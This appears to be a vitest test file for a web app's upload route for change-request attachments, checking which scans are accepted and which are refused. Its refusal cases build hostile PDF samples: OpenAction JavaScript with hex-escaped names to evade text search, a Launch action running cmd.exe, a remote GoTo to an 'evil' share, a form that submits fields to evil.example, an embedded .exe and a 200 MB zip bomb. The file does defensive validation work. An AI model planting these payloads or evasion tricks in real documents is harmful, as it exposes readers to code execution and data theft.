/**
 * Stamped scans (change-request attachments) as phones, scanners and PDF tools write them, through
 * the real upload route: PDFs whose dictionaries sit in compressed object streams or use escaped
 * names, encrypted PDFs and zip bombs; JPEGs and PNGs cut short with an end marker appended; and
 * the phone and scanner formats the registry does not take. Each is accepted and served back, or
 * refused with its own message in zh-TW and English, leaving nothing behind.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ChangeRequestResponse } from '../../src/change-requests/change-requests.schemas.js';
import { API, failed, memberSession, ok, staffSession, type Client } from '../helpers/catalog.js';
import { buildPdf } from '../helpers/pdf-builder.js';
import { multipartBody } from './change-requests-fixtures.js';
import { leftovers, sha256, useCoverApp } from './covers-fixtures.js';

const env = useCoverApp();
let staff: Client;
const SCANS = path.join(import.meta.dirname, '../fixtures/scans');
const fixture = (name: string) => readFile(path.join(SCANS, name));

beforeAll(async () => {
  staff = await staffSession(env);
}, 60_000);

/** A registrant has one pending request at a time: each upload files its own, as a new member. */
async function pendingRequest(): Promise<{ id: string; api: Client }> {
  const m = await memberSession(env);
  const res = await m.api.call('POST', '/change-requests', { changes: [{ field: 'address', after: `新址 ${Math.random()}` }], reason: '搬遷' });
  return { id: ok(res, 201).json<ChangeRequestResponse>().id, api: m.api };
}

function attach(request: { id: string; api: Client }, name: string, bytes: Buffer, lang = 'zh-TW') {
  // The client's Content-Type lies on purpose: only the content counts.
  const { payload, headers } = multipartBody(name, bytes, 'application/pdf');
  return env.app.inject({ method: 'POST', url: `${API}/change-requests/${request.id}/attachment`, payload, headers: { ...headers, cookie: request.api.cookie, 'accept-language': lang } });
}

const card = (width = 300, height = 400) => sharp({ create: { width, height, channels: 3, background: '#2a6f97', noise: { type: 'gaussian', mean: 120, sigma: 30 } } } as sharp.SharpOptions);
const EOI = Buffer.from([0xff, 0xd9]);
const IEND = Buffer.from('0000000049454e44ae426082', 'hex');
const half = (b: Buffer) => b.subarray(0, b.length >> 1);
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('stamped scans that are accepted', () => {
  it.each([
    ['a scan PDF rewritten by qpdf with object streams', 'scan.pdf', () => fixture('qpdf-objstm-scan.pdf'), 'application/pdf'],
    ['a PDF with its dictionaries in an object stream', 'form.pdf', () => Promise.resolve(buildPdf({ objectStream: true })), 'application/pdf'],
    [
      'a letter PDF with a web link (/URI)',
      'letter.pdf',
      () => Promise.resolve(buildPdf({ objectStream: true, objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.example.org/) >> >>'] })),
      'application/pdf',
    ],
    ['an ffmpeg frame (-frames:v 1)', 'frame.jpg', () => fixture('ffmpeg-frame.jpg'), 'image/jpeg'],
    ['an ImageMagick progressive JPEG', 'scan.jpg', () => fixture('imagemagick-progressive.jpg'), 'image/jpeg'],
    ['an ImageMagick CMYK JPEG', 'scan.jpg', () => fixture('imagemagick-cmyk.jpg'), 'image/jpeg'],
    ['an ImageMagick 16-bit PNG', 'scan.png', () => fixture('imagemagick-16bit.png'), 'image/png'],
    ['a progressive JPEG (sharp)', 'scan.jpg', () => card().jpeg({ progressive: true }).toBuffer(), 'image/jpeg'],
    ['an EXIF-rotated phone JPEG', 'IMG_0001.JPG', () => card().jpeg().withMetadata({ orientation: 6 }).toBuffer(), 'image/jpeg'],
    ['a PNG with an iCCP profile', 'scan.png', () => card().withIccProfile('p3').png().toBuffer(), 'image/png'],
    [
      'a JPEG with stray bytes before its end marker',
      'camera.jpg',
      async () => {
        const jpeg = await card().jpeg().toBuffer();
        return Buffer.concat([jpeg.subarray(0, -2), Buffer.from([0, 0]), EOI]);
      },
      'image/jpeg',
    ],
  ] as const)('accepts %s and serves it back as a download', async (_label, name, make, type) => {
    const bytes = await make();
    const request = await pendingRequest();
    const res = await attach(request, name, bytes);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json<ChangeRequestResponse>().attachment).toMatchObject({ contentType: type, size: bytes.length });
    const got = ok(await env.app.inject({ method: 'GET', url: `${API}/change-requests/${request.id}/attachment`, headers: { cookie: staff.cookie } }));
    expect(got.headers['content-type']).toBe(type);
    expect(got.headers['content-disposition']).toMatch(/^attachment;/);
    expect(sha256(got.rawPayload)).toBe(sha256(bytes));
  });
});

const UNREADABLE = [422, 'ATTACHMENT_UNREADABLE', /已損毀、不完整/, /damaged, incomplete/] as const;
const SCRIPT = [422, 'ATTACHMENT_HAS_SCRIPT', /含有程式碼（JavaScript）/, /^This PDF contains JavaScript/] as const;
const EMBEDDED = [
  422,
  'ATTACHMENT_HAS_EMBEDDED_CONTENT',
  /內含其他檔案、多媒體，或開啟外部程式、開啟其他文件、傳送或匯入表單資料的動作/,
  /^This PDF contains other files, media or an action that starts a program, opens another document, or sends or imports form data/,
] as const;
const formatRefused = (format: string) =>
  [
    415,
    'ATTACHMENT_FORMAT_NOT_ALLOWED',
    new RegExp(`^這是 ${format} 檔，本系統不接受：僅接受 PDF、JPG 或 PNG 檔`),
    new RegExp(`^This is a ${format} file, which is not accepted: only PDF, JPG or PNG files are`),
  ] as const;

describe('stamped scans that are refused', () => {
  it.each([
    // PDFs with active content, also where a plain-text search cannot see it.
    ['a PDF whose OpenAction script qpdf put in an object stream', 'form.pdf', () => fixture('qpdf-objstm-script.pdf'), ...SCRIPT, undefined],
    [
      'a PDF whose script names are hex-escaped (/J#61vaScript, /#4A#53)',
      'form.pdf',
      () => buildPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>'] }),
      ...SCRIPT,
      undefined,
    ],
    [
      'a PDF with a launch action in an object stream',
      'form.pdf',
      () => buildPdf({ objectStream: true, catalog: '/OpenAction 4 0 R', objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
      ...EMBEDDED,
      { feature: 'launch' },
    ],
    [
      'a PDF whose script object stream follows the word `stream` in a comment',
      'form.pdf',
      () =>
        Buffer.from(
          buildPdf({ objectStream: true, catalog: '/OpenAction 4 0 R', objects: [script] })
            .toString('latin1')
            .replace(/(\d+ 0 obj\n<< \/Type \/ObjStm)/, '%stream\n$1'),
          'latin1',
        ),
      ...SCRIPT,
      undefined,
    ],
    [
      'a PDF whose link opens a document on another machine (/GoTo#52, escaped)',
      'letter.pdf',
      () => buildPdf({ objectStream: true, objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo#52 /F (\\\\\\\\evil\\\\s\\\\a.pdf) /D [0 /Fit] >> >>'] }),
      ...EMBEDDED,
      { feature: 'remoteGoTo' },
    ],
    [
      'a PDF form that submits its fields to a server',
      'form.pdf',
      () => buildPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>'] }),
      ...EMBEDDED,
      { feature: 'submitForm' },
    ],
    ['a PDF with a file attached by qpdf', 'form.pdf', () => fixture('qpdf-objstm-attachment.pdf'), ...EMBEDDED, { feature: 'embeddedFile' }],
    [
      'a PDF with an embedded-file name tree in an object stream',
      'form.pdf',
      () => buildPdf({ objectStream: true, catalog: '/Names << /Embedded#46iles 4 0 R >>', objects: ['<< /Names [(a.exe) 5 0 R] >>'] }),
      ...EMBEDDED,
      { feature: 'embeddedFile' },
    ],
    ['a PDF with rich media', 'form.pdf', () => buildPdf({ objectStream: true, objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'] }), ...EMBEDDED, { feature: 'richMedia' }],
    [
      'an XFA form',
      'form.pdf',
      () => buildPdf({ objectStream: true, catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: ['<< /Length 0 >>'] }),
      422,
      'ATTACHMENT_DYNAMIC_FORM',
      /動態表單（XFA）/,
      /dynamic \(XFA\) form/,
      undefined,
    ],
    [
      'a password-protected PDF (qpdf, AES-256)',
      'locked.pdf',
      () => fixture('qpdf-encrypted.pdf'),
      422,
      'ATTACHMENT_ENCRYPTED',
      /^這個 PDF 檔已加密（設有開啟密碼，或限制列印、複製等權限），系統無法檢查其內容/,
      /^This PDF is encrypted \(with a password to open it, or restrictions on printing or copying\), so its content cannot be checked/,
      undefined,
    ],
    [
      'a PDF zip bomb (200 MB of object stream in < 1 MB)',
      'bomb.pdf',
      () => buildPdf({ objectStream: true, encodeObjectStream: (plain) => deflateSync(Buffer.concat([plain, Buffer.alloc(200 * 1024 * 1024, 0x20)]), { level: 9 }) }),
      ...UNREADABLE,
      undefined,
    ],
    [
      'a PDF whose object stream is damaged',
      'form.pdf',
      () => buildPdf({ objectStream: true, objects: [script], encodeObjectStream: (b) => Buffer.concat([Buffer.from([0x78, 0x9c, 0xff, 0xff]), b]) }),
      ...UNREADABLE,
      undefined,
    ],
    [
      'a PDF whose object stream takes its decode parameters (a predictor) from another object',
      'form.pdf',
      () => buildPdf({ objectStream: true, objectStreamFilter: '/Filter /FlateDecode /DecodeParms 9 0 R', objects: [script] }),
      ...UNREADABLE,
      undefined,
    ],
    ['a PDF after an HTML page (header not at byte 0)', 'form.pdf', () => Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), buildPdf()]), ...UNREADABLE, undefined],
    // Scans missing their lower half.
    ['a JPEG cut in half with an end marker appended', 'cut.jpg', async () => Buffer.concat([half(await card().jpeg().toBuffer()), EOI]), ...UNREADABLE, undefined],
    [
      'a progressive JPEG cut in half with an end marker appended',
      'cut.jpg',
      async () => Buffer.concat([half(await card().jpeg({ progressive: true }).toBuffer()), EOI]),
      ...UNREADABLE,
      undefined,
    ],
    ['an ffmpeg JPEG cut in half with an end marker appended', 'cut.jpg', async () => Buffer.concat([half(await fixture('ffmpeg-frame.jpg')), EOI]), ...UNREADABLE, undefined],
    ['a PNG cut in half with an IEND chunk appended', 'cut.png', async () => Buffer.concat([half(await card().png().toBuffer()), IEND]), ...UNREADABLE, undefined],
    // Phone and scanner formats, named.
    ['an iPhone HEIC photo', 'IMG_0002.HEIC', () => fixture('iphone.heic'), ...formatRefused('HEIC'), { format: 'HEIC', allowed: ['PDF', 'JPG', 'PNG'] }],
    ['an iPhone HEIC photo renamed .jpg', 'IMG_0002.jpg', () => fixture('iphone.heic'), ...formatRefused('HEIC'), { format: 'HEIC' }],
    ['a multi-page scanner TIFF', 'scan.tif', () => fixture('scanner-2-pages.tif'), ...formatRefused('TIFF'), { format: 'TIFF' }],
    ['a TIFF written by sharp, named .pdf', 'scan.pdf', () => card(60, 80).tiff().toBuffer(), ...formatRefused('TIFF'), { format: 'TIFF' }],
    ['a WebP', 'scan.webp', () => card(60, 80).webp().toBuffer(), ...formatRefused('WebP'), { format: 'WebP' }],
    ['an AVIF (HEIF written by sharp)', 'scan.avif', () => card(60, 80).heif({ compression: 'av1' }).toBuffer(), ...formatRefused('AVIF'), { format: 'AVIF' }],
    ['a BMP from scanner software', 'scan.bmp', () => fixture('scanner.bmp'), ...formatRefused('BMP'), { format: 'BMP' }],
    ['a GIF (which album covers take)', 'scan.gif', () => card(60, 80).gif().toBuffer(), ...formatRefused('GIF'), { format: 'GIF', allowed: ['PDF', 'JPG', 'PNG'] }],
  ] as const)('refuses %s with its own message and keeps nothing', async (_label, name, make, status, code, zh, en, details) => {
    const bytes = await make();
    expect(bytes.length).toBeLessThan(5 * 1024 * 1024);
    const request = await pendingRequest();
    const before = await leftovers(env);
    const zhRes = failed(await attach(request, name, bytes), status, code);
    expect(zhRes.message).toMatch(zh);
    if (details !== undefined) {
      expect(zhRes.details).toMatchObject(details);
    }
    expect(failed(await attach(request, name, bytes, 'en'), status, code).message).toMatch(en);
    expect(await leftovers(env)).toEqual(before);
    const view = ok(await request.api.call('GET', `/change-requests/${request.id}`)).json<ChangeRequestResponse>();
    expect(view.attachment).toBeNull();
  });
});
